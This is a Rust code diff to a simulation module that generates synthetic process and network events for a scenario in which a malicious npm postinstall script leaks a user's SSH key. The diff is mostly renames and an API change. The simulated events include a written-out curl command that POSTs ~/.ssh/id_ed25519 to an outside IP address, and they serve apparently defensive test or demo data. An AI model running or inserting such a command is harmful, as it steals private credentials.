@@ -3,6 +3,7 @@
 use super::super::sim::{LAPTOP, MS, SEC, Sim};
 use super::super::truth::*;
 use super::*;
+use crate::demo::sim::Side::Connect;
 use crate::store::StoreError;
 
 /// Day L: `npm install` on the laptop runs a malicious postinstall that posts alice's SSH key
@@ -18,7 +19,7 @@ pub(crate) fn laptop_leak(sim: &mut Sim, day: i64) -> Result<(), StoreError> {
         None,
         "/usr/libexec/gnome-terminal-server",
         &["/usr/libexec/gnome-terminal-server"],
-        ALICE_LAPTOP,
+        ALICE,
         "/home/alice",
     )?;
     let bash = sim.spawn(
@@ -28,7 +29,7 @@ pub(crate) fn laptop_leak(sim: &mut Sim, day: i64) -> Result<(), StoreError> {
         None,
         "/usr/bin/bash",
         &["bash"],
-        ALICE_LAPTOP,
+        ALICE,
         "/home/alice/src/shop-web",
     )?;
     let cwd = "/home/alice/src/shop-web";
@@ -39,7 +40,7 @@ pub(crate) fn laptop_leak(sim: &mut Sim, day: i64) -> Result<(), StoreError> {
         None,
         "/usr/bin/node",
         &["npm", "install"],
-        ALICE_LAPTOP,
+        ALICE,
         cwd,
     )?;
     let pkg = "/home/alice/src/shop-web/node_modules/colorz-utils";
@@ -66,7 +67,7 @@ pub(crate) fn laptop_leak(sim: &mut Sim, day: i64) -> Result<(), StoreError> {
         None,
         "/bin/sh",
         &["sh", "-c", "node scripts/postinstall.js"],
-        ALICE_LAPTOP,
+        ALICE,
         pkg,
     )?;
     let node = sim.spawn(
@@ -76,7 +77,7 @@ pub(crate) fn laptop_leak(sim: &mut Sim, day: i64) -> Result<(), StoreError> {
         None,
         "/usr/bin/node",
         &["node", "scripts/postinstall.js"],
-        ALICE_LAPTOP,
+        ALICE,
         pkg,
     )?;
     let sh2 = sim.spawn(
@@ -90,7 +91,7 @@ pub(crate) fn laptop_leak(sim: &mut Sim, day: i64) -> Result<(), StoreError> {
             "-c",
             "curl -s -X POST --data-binary @/home/alice/.ssh/id_ed25519 https://203.0.113.66/k",
         ],
-        ALICE_LAPTOP,
+        ALICE,
         pkg,
     )?;
     let curl = sim.spawn(
@@ -108,10 +109,11 @@ pub(crate) fn laptop_leak(sim: &mut Sim, day: i64) -> Result<(), StoreError> {
             "@/home/alice/.ssh/id_ed25519",
             "https://203.0.113.66/k",
         ],
-        ALICE_LAPTOP,
+        ALICE,
         pkg,
     )?;
-    let end = sim.connect(
+    let end = sim.tcp(
+        Connect,
         h,
         &curl,
         day + at(10, 15, 9, 40),
